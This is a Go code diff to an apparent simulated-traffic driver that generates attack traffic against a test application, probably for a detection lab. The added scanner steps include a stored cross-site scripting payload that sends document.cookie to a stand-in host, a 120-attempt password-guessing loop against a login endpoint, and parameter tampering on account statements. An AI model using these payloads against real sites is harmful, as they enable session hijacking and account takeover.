@@ -36,6 +36,10 @@ func Capture(w io.Writer, flawed bool) error {
 	if err := d.visit(200, d.scan); err != nil {
 		return err
 	}
+	// Somebody comes back and reads what the scanner left.
+	if err := d.visit(11, func(c *client) { c.get("/reviews", c.login(users[1])) }); err != nil {
+		return err
+	}
 	return wire.Close()
 }
 
@@ -209,6 +213,11 @@ func (d *driver) customer(c *client, u user) {
 	} else {
 		c.get("/invoices", token)
 	}
+	for range 2 {
+		c.get(fmt.Sprint("/users/", u.ID), token)
+		c.get(fmt.Sprint("/statements?account=", 7000+u.ID), token)
+	}
+	c.get("/reviews", token)
 	c.get("/me", c.login(u))
 }
 
@@ -242,6 +251,12 @@ func (d *driver) scan(c *client) {
 	c.post("/graphql", "", `{"query":"{__schema{types{name}}}"}`)
 	c.post("/graphql", token, fmt.Sprintf(`{"query":%q}`, strings.Repeat("{author", 14)+strings.Repeat("}", 14)))
 	c.post("/graphql", token, "["+strings.Repeat(`{"query":"{books{title}}"},`, 14)+`{"query":"{books{title}}"}]`)
+	c.post("/reviews", token, `{"text":"<script>fetch('https://elsewhere.example/?c='+document.cookie)</script>"}`)
+	c.get("/statements?account=7011&account=7001", token)
+	c.get("/beta/books", token)
+	for i := range 120 { // three a second
+		c.post("/login", "", fmt.Sprintf(`{"username":"priya","password":"guess-%d"}`, i))
+	}
 	for i := range 40 {
 		c.get(fmt.Sprintf("/backup-%d/", i), "")
 	}
